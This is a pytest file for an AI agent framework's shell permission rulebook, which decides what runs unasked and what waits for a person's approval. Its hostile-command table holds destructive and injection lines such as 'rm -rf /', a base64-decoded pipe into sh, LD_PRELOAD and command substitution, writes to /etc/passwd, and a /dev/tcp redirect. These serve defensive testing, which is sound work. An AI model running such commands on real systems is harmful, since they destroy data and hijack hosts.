"""Which command lines run unasked: a table of harmless ones, and one of hostile ones with what each got."""

import subprocess
from pathlib import Path

import pytest
from msgspec.structs import replace

from holdfast.agent import Agent
from holdfast.config import Permissions
from holdfast.core.records import CallState, Message, State, ToolResult
from holdfast.hooks import Arguments, Hook
from holdfast.models.scripted import Call, ScriptedModel
from holdfast.tools.context import ToolContext
from holdfast.tools.permissions.acts import Whereabouts
from holdfast.tools.permissions.rulebook import rulebook_of
from holdfast.tools.shell.acts import COMMAND_CHARS_MAX, acts_of
from holdfast.tools.shell.tool import shell_tool
from tests.support.turns import rested, running

RULES = tuple(
    f"allow run({words} *)" for words in ("ls", "git status", "git log", "echo", "cat", "grep", "head", "cd")
)


def objection(command: str, root: Path | None, *rules: str) -> str | None:
    """Why it is not run unasked."""
    decision = rulebook_of(Permissions(mode="ask", rules=rules or RULES), None, None).judge(
        acts_of(command), Whereabouts(root=None if root is None else str(root))
    )
    return None if decision.ruling == "allow" else decision.why


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A repository with a file, and links out of it."""
    root = tmp_path / "root"
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    (root / "notes.txt").write_text("notes")
    (tmp_path / "outside.txt").write_text("outside")
    (root / "link.txt").symlink_to(tmp_path / "outside.txt")
    (root / "up").symlink_to(tmp_path)
    return root


@pytest.mark.parametrize(
    "command",
    [
        "ls",
        "  ls -la  ",
        "git status --short",
        "git log -1 --format=%H HEAD~2 HEAD^",
        "ls src/*.py tests/test_?.py",
        "echo 'a; rm -rf /' \"b && c\" d'e'\"f\"",
        "echo '$(id)' '`id`' '>' '&' '\\'",
        "git status && ls | head -n 3; echo done || cat notes.txt",
        "ls\ngit status\n",
        "cat notes.txt > /dev/null 2>&1",
        "cat < notes.txt",
        "grep -r needle . 2>/dev/null",
        "cat new/../notes.txt",
        "echo 'é ü'",
    ],
)
def test_a_plain_command_that_begins_with_an_allowed_prefix_runs_unasked(command: str, root: Path) -> None:
    assert objection(command, root) is None


NO_RULE = "no rule allows it"
HOSTILE = [
    # other programs, and other ways to name them
    ("rm -rf /", NO_RULE),
    ("git push", NO_RULE),
    ("git -c core.pager=id status", NO_RULE),
    ("git", NO_RULE),
    ("./ls", NO_RULE),
    ("/bin/ls", NO_RULE),
    ("l?", "which program `l?` stands for"),
    ("git stat*", NO_RULE),
    ("ls; rm x", NO_RULE),
    ("ls && rm x", NO_RULE),
    ("ls || rm x", NO_RULE),
    ("ls | sh", NO_RULE),
    ("ls\nrm x", NO_RULE),
    ("ls\r\nrm x", "control characters"),
    ("ls\x00rm x", "control characters"),
    ("sh -c ls", NO_RULE),
    ("env -i ls", NO_RULE),
    ("env ls", NO_RULE),
    ("exec ls", NO_RULE),
    ("command ls", NO_RULE),
    ("eval ls", NO_RULE),
    (". ./x", NO_RULE),
    ("echo cm0gLXJmIC8= | base64 -d | sh", NO_RULE),
    ("xargs rm < notes.txt", NO_RULE),
    # expansion
    ("$SHELL -c id", "simple expansion"),
    ("${X}ls", "expansion"),
    ("ls $HOME", "simple expansion"),
    ("ls $(id)", "command substitution"),
    ("ls `id`", "command substitution"),
    ('ls "$(id)"', "a string that the shell changes"),
    ('ls "`id`"', "a string that the shell changes"),
    ('ls "a\\$b"', "a string that the shell changes"),
    ("ls $'\\x2d\\x6c'", "ansi c string"),
    ('ls $"x"', "`$`"),
    ("ls <(id)", "process substitution"),
    ("echo $((1+1))", "arithmetic expansion"),
    ("ls {a,b}", "is not plain"),
    ("ls ~root", "is not plain"),
    ("l\\s", "is not plain"),
    ("ls \\\n-l", "between its words"),
    ("r''m x", NO_RULE),
    ("'rm' x", NO_RULE),
    ("ls\u00a0-l", "is not plain"),
    # settings that change what an allowed program does
    ("LD_PRELOAD=./x.so ls", "variable assignment"),
    ("PATH=. ls", "variable assignment"),
    ("X=1", "variable assignment"),
    ("export PATH=.; ls", "declaration command"),
    ("alias ls=rm; ls", NO_RULE),
    ("ls() { rm x; }; ls", "function definition"),
    # other constructs
    ("ls &", "`&`"),
    ("ls & rm x", "`&`"),
    ("(ls)", "subshell"),
    ("{ ls; }", "compound statement"),
    ("! ls", "negated command"),
    ("if ls; then ls; fi", "if statement"),
    ("for x in a; do ls; done", "for statement"),
    ("while ls; do ls; done", "while statement"),
    ("case x in x) ls;; esac", "case statement"),
    ("[[ -f x ]]", "test command"),
    ("ls # rm", "comment"),
    ("ls |& cat", "`|&`"),
    ("cat <<EOF\n$(id)\nEOF", "heredoc redirect"),
    ("cat <<'EOF'\nx\nEOF", "heredoc redirect"),
    ("cat <<< x", "herestring redirect"),
    # redirections
    ("echo x > notes.txt", NO_RULE),
    ("echo x >> new.txt", NO_RULE),
    ("echo x > /etc/passwd", "under the root"),
    ("echo x > link.txt", "under the root"),
    ("cat < /etc/passwd", "no plain file or folder under the root"),
    ("cat < link.txt", "no plain file or folder under the root"),
    ("echo x > /dev/tcp/10.0.0.1/80", NO_RULE),
    ("cd src && echo x > notes.txt", "the folder is changed"),
    ("cd .. && ls", "`..` is no plain file or folder under the root"),
    ("cd src && cat x", "the folder is changed before"),
    ("echo x > $X", "simple expansion"),
    ("echo x > *.txt", "it cannot be told what"),
    ("echo x &> notes.txt", NO_RULE),
    ("echo x >& notes.txt", NO_RULE),
    ("echo x >| notes.txt", NO_RULE),
    ("cat 3<> notes.txt", ""),
    ("git > x push", "can be read in two ways"),
    ("> notes.txt", "there is no command in it"),
    ("ls -LR .", "`ls -LR` is not known to be harmless"),  # through `up`, everywhere
    # what is no command at all
    ("", "there is no command in it"),
    ("   ", "there is no command in it"),
    ("ls 'x", "cannot be parsed"),
    ("ls )", "cannot be parsed"),
    ("ls &&", "cannot be parsed"),
    ("ls \ud800", "not text"),
    ("ls " + "x" * COMMAND_CHARS_MAX, "characters"),
    ("ls" + " && ls" * 1_000, None),  # long, and harmless: no limit of the interpreter is met
]


@pytest.mark.parametrize(("command", "wanted"), HOSTILE, ids=lambda value: repr(value)[:40])
def test_a_hostile_line_is_not_run_unasked(command: str, wanted: str | None, root: Path) -> None:
    said = objection(command, root)
    if wanted is None:
        assert said is None
    else:
        assert said is not None
        assert wanted in said


@pytest.mark.parametrize("pattern", [".*", ".?", ".*/outside.txt", "src/.*/.?/outside.txt", "'.'*"])
def test_a_pattern_that_may_stand_for_the_folder_above_asks(pattern: str, root: Path) -> None:
    for program in ("ls", "cat", "grep -r x"):
        assert "it cannot be told what" in (objection(f"{program} {pattern}", root) or "")
    assert objection("cat .git*", root) is None


def test_a_pattern_is_taken_as_the_shell_takes_it(root: Path) -> None:
    (root / "ax").write_text("inside")
    (root / "[a]x").symlink_to(root.parent / "outside.txt")
    assert "it cannot be told what" in (objection("cat '[a]'*", root) or "")
    (root / "é").symlink_to(root.parent / "outside.txt")
    assert "under the root" in (objection("cat ./??", root) or "")  # two bytes: dash takes it for two
    assert "under the root" in (objection("cat ./?", root) or "")


def test_comparing_folders_reads_everything_in_them(root: Path) -> None:
    rules = ("allow run(diff *)", "allow run(git diff *)")
    for folder in ("src", ".ssh"):
        (root / folder).mkdir()
    assert objection("diff notes.txt notes.txt", root, *rules) is None
    assert "through symlinks" in (objection("diff -N . src", root, *rules) or "")
    assert objection("git diff HEAD -- src", root, *rules) is None
    assert "keys or holdfast's own files" in (objection("git diff --text . src", root, *rules) or "")
    plain = root.parent / "plain"
    plain.mkdir()
    assert "not the top of a repository" in (objection("git diff a b", plain, *rules) or "")


def test_without_a_root_no_file_is_redirected_to() -> None:
    assert objection("ls 2>/dev/null >&2", None) is None
    assert objection("ls > notes.txt", None) is not None


# --- in a chat ---------------------------------------------------------------------------------------


def agent(root: Path, command: str, *hooks: Hook) -> Agent:
    model = ScriptedModel([Call(name="shell", arguments={"command": command})], "Done.")
    return Agent("a", model, tools=[shell_tool(root=root)], hooks=hooks, permissions=Permissions(rules=RULES))


def result_of(messages: list[Message]) -> ToolResult:
    (found,) = [part for message in messages for part in message.parts if isinstance(part, ToolResult)]
    return found


async def test_an_allowed_command_runs_at_once(store_url: str, root: Path) -> None:
    async with running(store_url, agent(root, "cat notes.txt")) as (app, _):
        chat = await app.create("a", "go")
        assert await rested(chat) is State.IDLE
        assert result_of(await chat.messages()).content == "notes\n[exit code 0]"


async def test_another_command_waits_for_a_person_and_runs_when_approved(store_url: str, root: Path) -> None:
    async with running(store_url, agent(root, "rm notes.txt")) as (app, _):
        chat = await app.create("a", "go")
        assert await rested(chat) is State.WAITING
        (call,) = (await chat.snapshot()).calls
        assert call.state is CallState.ASKING
        assert NO_RULE in (call.question or "")
        assert (root / "notes.txt").exists()
        await chat.approve(call.id)
        assert await rested(chat) is State.IDLE
        assert not (root / "notes.txt").exists()


async def test_in_an_unattended_chat_the_model_is_told_that_it_was_denied(store_url: str, root: Path) -> None:
    async with running(store_url, agent(root, "rm notes.txt")) as (app, _):
        chat = await app.create("a", "go", metadata={"unattended": True})
        assert await rested(chat) is State.IDLE
        assert "no person is there to be asked" in result_of(await chat.messages()).content
        assert (root / "notes.txt").exists()


async def test_the_rules_judge_what_a_hook_made_of_the_arguments(store_url: str, root: Path) -> None:
    hook = Hook("before_tool", lambda call, context: Arguments(text='{"command": "rm notes.txt"}'))
    async with running(store_url, agent(root, "ls", hook)) as (app, _):
        chat = await app.create("a", "go")
        assert await rested(chat) is State.WAITING
        assert (root / "notes.txt").exists()


async def test_a_tool_that_cannot_say_whether_it_may_run_asks(store_url: str, root: Path) -> None:
    def decide(arguments: dict[str, object], context: ToolContext) -> str | None:
        raise RuntimeError("no idea")

    made = replace(shell_tool(root=root), needs_approval=decide, acts=lambda _: ())
    model = ScriptedModel([Call(name="shell", arguments={"command": "ls"})], "Done.")
    async with running(store_url, Agent("a", model, tools=[made])) as (app, _):
        chat = await app.create("a", "go")
        assert await rested(chat) is State.WAITING
        (call,) = (await chat.snapshot()).calls
        assert "no idea" in (call.question or "")
